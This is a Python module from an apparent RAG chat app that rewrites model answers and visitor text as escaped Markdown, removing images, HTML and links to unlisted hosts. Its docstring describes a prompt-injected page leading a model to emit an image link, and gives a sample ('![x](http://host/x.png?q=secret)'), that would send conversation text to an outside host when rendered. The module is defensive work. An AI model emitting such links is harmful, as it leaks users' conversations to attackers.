"""The one way text reaches the page: Markdown rebuilt from a parse, so nothing in it can load a
resource or be a live link outside the operator's allow-list.

Model answers, visitors' questions, stored names, reasons and comments are data; a Markdown or
HTML renderer would turn some of them into elements (``![x](http://host/x.png?q=secret)``,
``<img src=…>``, an autolink), and with a prompt-injected page a model could send conversation text
out that way. Filtering by pattern does not hold: the renderer's reading of code spans, fences and
blank lines is subtler than any regular expression. So:

* `safe` parses the text with markdown-it-py (CommonMark, raw HTML off: it becomes text) and writes
  the syntax tree back as Markdown in which every text leaf has each character that could open or
  close a construct backslash-escaped (`_escape`: the inline ones everywhere, the starts of GFM
  autolinks, block markers where a line may start), so that no parser (CommonMark, or ``marked`` with
  GFM as Gradio's browser code uses) can read a link, image, autolink, e-mail, HTML tag, entity, table
  or block marker in it, and prose keeps its other punctuation bare (the copy button and the API give
  the message as written, so "9-14, (máximo 21 días)." must not come out full of backslashes). The
  only structure in the output is what this module writes: paragraphs, emphasis, headings, lists,
  block quotes, rules, inline code (a backtick fence longer than any run inside, newlines folded to
  spaces), fenced code (a fence longer than any run inside; the language kept only when it is a
  plain word, never ``mermaid``, which Gradio renders as a diagram), and links whose address is
  ``http``/``https`` on a host of ``RAGARENA_LINK_HOSTS`` (comma-separated; a host also allows its
  subdomains). Any other link shows its text; an image shows its alt text. The output never holds
  ``$$`` (Gradio cuts ``$$…$$`` out for KaTeX before parsing, which could change what is code): in
  code, a zero-width space separates two dollars.
* `literal` writes any text so that it shows exactly as typed inside Markdown the app writes (a model
  name in a heading, a reason in a list): escaped like a text leaf that starts a line, line breaks as
  spaces.
  `code` writes it as an inline code span instead.
* `html_text` is the same for HTML the app writes (the passages panel) and for plotly's labels: HTML-escaped.

`plain` gives back the text behind what a visitor saw (`safe`'s output, or any message sent back as
history): the same tree written without escapes, so the chat endpoint can rebuild a conversation.
"""

from __future__ import annotations

import functools
import html
import re
from collections.abc import Callable
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

from ragarena import settings

# CommonMark, raw HTML off (shown as text), no linkify, no typographer: what a reader typed.
_PARSER = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
# Escaped wherever they stand, because they open or close an inline construct:
#   \ an escape (a reader's backslash would undo ours), ` code spans and fences, * _ emphasis and rules,
#   ~ strikethrough and ~~~ fences, [ ] links, images, references and footnotes, < > raw HTML,
#   autolinks and block quotes, & entities, | tables, $ Gradio's KaTeX cut-out ($$...$$, $...$),
#   @ e-mail autolinks (marked links a bare user@host).
# Then the three ways marked's GFM autolinks start (case-insensitive, even inside a word): a ":" before
# "/" (http://, https://, ftp://) and a "." right after "www"; and a "/" before "/" (a linkifier links a
# protocol-relative //host, marked does not, but it costs nothing in prose).
# Harmless anywhere, so shown as typed: ! (an image needs "![": "[" is escaped, and before a link this
# module writes, `_no_image_opener` escapes the "!"), ( ) (a link's address needs "](" or "]:"),
# " ' (titles, inside links only; no smart quotes), # + - = . ) : digits (block markers, only where a
# line starts: `_LEADING`), % ^ { } , ; ? (no construct in marked or CommonMark uses them).
_INLINE = re.compile(r"[\\`*_~\[\]<>&|$@]|:(?=/)|/(?=/)|(?<=[Ww]{3})\.")
# A run of text may begin a line (a paragraph's first, after a line break, after "> " or a list
# marker), where these open a block: # a heading, + - a list item, a setext underline or a rule,
# = a setext underline, 1. 1) an ordered item, :- or -: a table's delimiter row (marked reads
# "a\n:--" as a table). Each is a marker only before a space, the line's end, its own kind (rules,
# underlines) or ":"; the run's first such character is escaped there, or at the run's end (written
# markup may follow), so "3.5 horas", "-5" or "#etiqueta" stay clean.
# Leading spaces: markdown-it strips them from a paragraph's lines, so only an entity (&#32;) yields
# one; they are skipped here, and four of them at most make an indented code block, shown as typed.
_LEADING = re.compile(r"^([ \t]*(?:\d{1,9}(?=[.)]))?)([#+=-](?=[ \t#+=:-]|$)|:(?=-)|(?<=\d)[.)](?=[ \t]|$))")
# "#" closing a run after a space would be taken as an ATX heading's closing sequence and dropped.
_CLOSING = re.compile(r"(?<=[ \t])#(?=#*$)")
_LINE_BREAKS = re.compile(r"[\r\n]+")
_BREAKING_SPACE = re.compile(r"[\r\n\t\f\v]")  # what could end a line or indent one into a code block
_DOLLARS = re.compile(r"\$(?=\$)")
_ZERO_WIDTH_SPACE = "\u200b"
_INFO_WORD = re.compile(r"[A-Za-z0-9_+-]{1,30}")
# What an address the page may link to can hold as it is; anything else is percent-encoded.
_URL_UNSAFE = re.compile(r"[^A-Za-z0-9\-._~:/?#@!&'*+,;=%]")


def allowed_link(url: str, hosts: tuple[str, ...]) -> bool:
    try:
        parts = urlsplit(url)
        host = (parts.hostname or "").lower()
    except ValueError:
        return False
    if parts.scheme.lower() not in ("http", "https") or not host or parts.username or parts.password:
        return False
    return any(host == allowed or host.endswith("." + allowed) for allowed in hosts)


def literal(text: str) -> str:
    """`text` for a Markdown context: shown as typed (on one line), never read as markup."""
    # Whitespace at either end (a no-break space too) is what a Markdown paragraph trims anyway.
    return _escape(_BREAKING_SPACE.sub(" ", str(text or "")).strip())


def _escape(text: str) -> str:
    """A run of text (never holding a line break) escaped so that it can start or end no construct.

    Only what marked (GFM, as Gradio runs it), CommonMark, Gradio's KaTeX cut-out or a linkifier could
    read as markup is escaped; the rest of the ASCII punctuation is shown as typed, so a copied answer
    reads like prose. See `_INLINE`, `_LEADING` and `_CLOSING` for the reason behind each character.
    """
    text = _INLINE.sub(r"\\\g<0>", _LINE_BREAKS.sub(" ", text))
    return _CLOSING.sub(r"\\\g<0>", _LEADING.sub(r"\g<1>\\\g<2>", text))


def code(text: str) -> str:
    """`text` as an inline code span for Markdown the app writes (an id, a command), shown as typed."""
    return _Writer(_escape, ()).code_span(str(text or ""))


def html_text(text: str) -> str:
    """`text` for an HTML context: shown as typed, never read as markup."""
    return html.escape(str(text or ""), quote=True)


def safe(text: str, hosts: tuple[str, ...] | None = None) -> str:
    """`text` as Markdown that draws no image, no HTML and links only to allowed hosts."""
    if not text:
        return text or ""
    return _safe(text, settings.link_hosts() if hosts is None else hosts)


@functools.lru_cache(maxsize=256)  # a page redraws earlier messages with each frame of the next one
def _safe(text: str, hosts: tuple[str, ...]) -> str:
    return _Writer(_escape, hosts).document(text)


def plain(shown: str, hosts: tuple[str, ...] | None = None) -> str:
    """The text behind a shown message: its Markdown structure with the escapes undone."""
    if not shown:
        return shown or ""
    hosts = settings.link_hosts() if hosts is None else hosts
    return _Writer(
        lambda text: _LINE_BREAKS.sub(" ", text),
        hosts,
        hard_break="\n",
        code_guard=lambda code: code.replace(_ZERO_WIDTH_SPACE, ""),
        before_link=lambda written: written,
    ).document(shown)


def _no_double_dollar(code: str) -> str:
    return _DOLLARS.sub("$" + _ZERO_WIDTH_SPACE, code)


def _no_image_opener(written: str) -> str:
    # "!" is left bare in text (an image needs "![", and text never holds a bare "["), except right
    # before a link this module writes. `_escape` never writes "\!", so a final "!" is unescaped.
    return written[:-1] + "\\!" if written.endswith("!") else written


def _fence_for(code: str, least: int) -> str:
    longest = max((len(run) for run in re.findall(r"`+", code)), default=0)
    return "`" * max(least, longest + 1)


def _indent(text: str, first: str, rest: str) -> str:
    lines = text.split("\n")
    return "\n".join([first + lines[0]] + [(rest + line) if line else rest.rstrip() for line in lines[1:]])


class _Writer:
    """Writes a markdown-it syntax tree back as Markdown, text leaves through `escape`."""

    def __init__(
        self,
        escape: Callable[[str], str],
        hosts: tuple[str, ...],
        hard_break: str = "\\\n",
        code_guard: Callable[[str], str] = _no_double_dollar,
        before_link: Callable[[str], str] = _no_image_opener,
    ):
        self.escape, self.hosts, self.hard_break, self.code_guard = escape, hosts, hard_break, code_guard
        self.before_link = before_link

    def document(self, text: str) -> str:
        return self.blocks(SyntaxTreeNode(_PARSER.parse(text)).children, "\n\n")

    # --- blocks ---------------------------------------------------------------------------------

    def blocks(self, nodes, separator: str) -> str:
        # A block with nothing to show (blank text from an entity's line break, say) is left out.
        return separator.join(part for part in (self.block(node) for node in nodes) if part.strip())

    def block(self, node: SyntaxTreeNode) -> str:
        kind = node.type
        if kind == "paragraph":
            return self.inline(node)
        if kind == "heading":
            content = self.inline(node)
            return "#" * int(node.tag[1]) + " " + content if content.strip() else ""
        if kind in ("bullet_list", "ordered_list"):
            return self.list(node)
        if kind == "blockquote":
            content = self.blocks(node.children, "\n\n")
            return _indent(content, "> ", "> ") if content.strip() else ""
        if kind in ("fence", "code_block"):
            return self.code_block(node)
        if kind == "hr":
            return "---"
        return self.escape(node.content or "")  # anything else (none with this parser): its text

    def list(self, node: SyntaxTreeNode) -> str:
        tight = all(child.hidden for item in node.children for child in item.children if child.type == "paragraph")
        items = []
        number = int(node.attrs.get("start", 1) or 1) if node.type == "ordered_list" else None
        for item in node.children:
            content = self.blocks(item.children, "\n" if tight else "\n\n")
            if not content.strip():
                continue
            marker = f"{number}{item.markup or '.'}" if number is not None else (item.markup or "-")
            items.append(_indent(content, marker + " ", " " * (len(marker) + 1)))
            number = number + 1 if number is not None else None
        return ("\n" if tight else "\n\n").join(items)

    def code_block(self, node: SyntaxTreeNode) -> str:
        code = self.code_guard(node.content or "")
        if code and not code.endswith("\n"):
            code += "\n"
        info = (node.info or "").strip().split(" ")[0] if node.type == "fence" else ""
        if not _INFO_WORD.fullmatch(info) or info.lower().startswith("mermaid"):  # Gradio draws those
            info = ""
        fence = _fence_for(code, 3)
        return f"{fence}{info}\n{code}{fence}"

    # --- inline ---------------------------------------------------------------------------------

    def inline(self, node: SyntaxTreeNode, in_link: bool = False) -> str:
        # Text next to text (a leaf, an image's alt, a link shown as its label) is escaped as one run:
        # apart, "www" and an alt ".evil.com", or "http:", "/" and "/", would each look harmless and
        # still make an autolink together; and a run ending in "!" is guarded before a link's "[".
        written, run = [], []
        for is_text, part in self.pieces(node, in_link):
            if is_text:
                run.append(part)
                continue
            if run:
                written.append(self.escape("".join(run)))
                run = []
            if part.startswith("[") and written:  # only a link this module writes starts with "["
                written[-1] = self.before_link(written[-1])
            written.append(part)
        return "".join(written + ([self.escape("".join(run))] if run else []))

    def pieces(self, node: SyntaxTreeNode, in_link: bool):
        """(is it text to escape, the text or written Markdown) for each inline child of `node`."""
        children = node.children[0].children if node.children and node.children[0].type == "inline" else node.children
        for child in children:
            kind = child.type
            if kind == "softbreak":
                yield False, "\n"
            elif kind == "hardbreak":
                yield False, self.hard_break
            elif kind == "code_inline" and not in_link:
                yield False, self.code_span(child.content)
            elif kind in ("em", "strong"):
                content = self.inline(child, in_link)
                if content:
                    yield False, f"{child.markup}{content}{child.markup}"
            elif kind == "image":
                yield from self.pieces(child, True)  # its alt text (as text, never code)
            elif kind == "link":
                url = str(child.attrs.get("href", ""))
                if in_link or not allowed_link(url, self.hosts):
                    yield from self.pieces(child, True)  # its text
                else:
                    label = self.inline(child, True)
                    yield False, f"[{label or self.escape(url)}]({_URL_UNSAFE.sub(_percent, url)})"
            else:  # text, and anything else (none with this parser) as its text
                yield True, child.content or ""

    def code_span(self, code: str) -> str:
        code = self.code_guard(_LINE_BREAKS.sub(" ", code))
        fence = _fence_for(code, 1)
        # CommonMark drops one space at each end when both ends have one (unless all are spaces).
        pad = (
            " "
            if code.startswith("`")
            or code.endswith("`")
            or (code.startswith(" ") and code.endswith(" ") and code.strip(" "))
            else ""
        )
        return f"{fence}{pad}{code}{pad}{fence}"


def _percent(match: re.Match) -> str:
    return "".join(f"%{byte:02X}" for byte in match.group(0).encode("utf-8"))
